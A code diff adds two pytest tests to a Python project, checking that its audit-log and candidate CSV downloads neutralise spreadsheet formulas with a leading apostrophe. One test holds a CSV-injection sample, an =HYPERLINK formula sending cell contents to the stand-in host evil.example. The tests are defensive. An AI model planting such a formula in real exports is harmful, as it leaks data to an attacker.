@@ -13,7 +13,9 @@ import pytest
 from gasatlas.auth import LOCAL_MODERATOR as MODERATOR
 from gasatlas.config import PROJECT_ROOT
 from gasatlas.data import load_dataset, with_stored
-from gasatlas.exports import EVENT_COLUMNS, events_csv, events_excel, frame_records
+from gasatlas.exports import EVENT_COLUMNS, events_csv, events_excel, frame_records, table_csv
+from gasatlas.extract import Candidate
+from gasatlas.ingest import format_candidates
 from gasatlas.sanitize import guard_cell, unguard_cell
 from gasatlas.store import EventStore, export_archive, import_csv
 
@@ -83,3 +85,29 @@ def test_the_stored_events_archive_is_guarded_and_reimports_losslessly(stored: E
 @pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'", "'Tis", "-", "", "plain", "a=b", "\t=x", "@", "＋1"])
 def test_guarding_a_cell_can_always_be_undone(text: str) -> None:
     assert unguard_cell(guard_cell(text)) == text
+
+
+def test_the_audit_log_download_starts_a_formula_comment_with_an_apostrophe_and_keeps_the_time(
+        stored: EventStore) -> None:
+    formula = '=HYPERLINK("https://evil.example/?x="&A2;"Click for the source")'
+    stored.delete(MODERATOR, ATLAS, "ev-2023-02-01-formula", 1, formula)
+    log = stored.audit_log(MODERATOR)
+
+    rows = list(csv.DictReader(io.StringIO(table_csv(log))))
+
+    assert list(rows[0]) == list(log.columns)
+    [deleted] = [row for row in rows if row["action"] == "delete"]
+    assert deleted["comment"] == "'" + formula and unguard_cell(deleted["comment"]) == formula
+    assert deleted["changes"] == "status"
+    assert pd.Timestamp(deleted["at"]) == log.loc[log["action"] == "delete", "at"].iloc[0], "to the microsecond"
+
+
+def test_the_command_lines_csv_of_candidates_is_guarded_like_every_download() -> None:
+    candidate = Candidate(event={"id": "ev-2024-03-15-x", "title_en": FORMULAS["title_en"],
+                                 "summary_ru": FORMULAS["summary_ru"]}, confidence=0.5, flags=[], new_actors=[],
+                          sentence_index=0)
+
+    [row] = csv.DictReader(io.StringIO(format_candidates([candidate], "csv", [[]])))
+
+    assert row["title_en"] == "'" + FORMULAS["title_en"] and row["summary_ru"] == "'" + FORMULAS["summary_ru"]
+    assert row["id"] == "ev-2024-03-15-x"
